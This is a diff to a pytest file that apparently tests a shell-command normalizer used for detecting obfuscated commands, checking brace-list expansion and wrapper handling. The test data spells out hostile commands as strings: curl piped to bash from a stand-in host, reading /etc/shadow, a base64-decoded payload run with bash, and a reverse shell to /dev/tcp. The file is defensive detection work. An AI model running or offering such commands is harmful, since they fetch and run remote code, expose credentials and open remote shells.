@@ -121,6 +121,18 @@ def test_variables_that_may_be_set_are_not_dropped(typed: str, seen: tuple[str, 
         ("{curl,-s,http://x.example/a}|{bash,}", "curl -s http://x.example/a | bash", "{curl,-s,http://x.example/a}"),
         ("{cat,/etc/shadow}", "cat /etc/shadow", "{cat,/etc/shadow}"),
         ("{echo,aWQ=}|{base64,-d}|{bash,-i}", "echo aWQ= | base64 -d | bash -i", "{base64,-d}"),
+        # after a wrapper: the wrapped command is read from its items, the wrapper too
+        ("sudo {cat,/etc/shadow}", "cat /etc/shadow", "sudo cat /etc/shadow"),
+        (
+            "nohup {bash,-i} >& /dev/tcp/198.51.100.7/4444 0>&1",
+            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+            "nohup bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+        ),
+        (
+            "env {curl,-s,http://x.example/a}|{bash,}",
+            "curl -s http://x.example/a | bash",
+            "env {curl,-s,http://x.example/a}",
+        ),
     ],
 )
 def test_a_command_spelled_as_a_brace_list_is_its_items_and_stays_as_typed(
@@ -131,9 +143,19 @@ def test_a_command_spelled_as_a_brace_list_is_its_items_and_stays_as_typed(
     assert segment in normalized.segments  # SG-OBF-006 reads the spelling itself
 
 
-@pytest.mark.parametrize("typed", ["echo {a,b}", "cp app.conf{,.bak}", "mkdir -p {bash,zsh}-completions", "{,}"])
-def test_brace_lists_that_are_no_command_stay(typed: str) -> None:
-    assert normalize_command(typed).whole == typed
+@pytest.mark.parametrize(
+    ("typed", "whole"),
+    [
+        ("echo {a,b}", "echo {a,b}"),
+        ("cp app.conf{,.bak}", "cp app.conf{,.bak}"),
+        ("mkdir -p {bash,zsh}-completions", "mkdir -p {bash,zsh}-completions"),
+        ("{,}", "{,}"),
+        ("sudo echo {a,b}", "echo {a,b}"),  # an argument, after a wrapper too
+        ("sudo {,}", "{,}"),
+    ],
+)
+def test_brace_lists_that_are_no_command_stay(typed: str, whole: str) -> None:
+    assert normalize_command(typed).whole == whole
 
 
 def test_a_glob_without_letters_is_not_resolved() -> None:
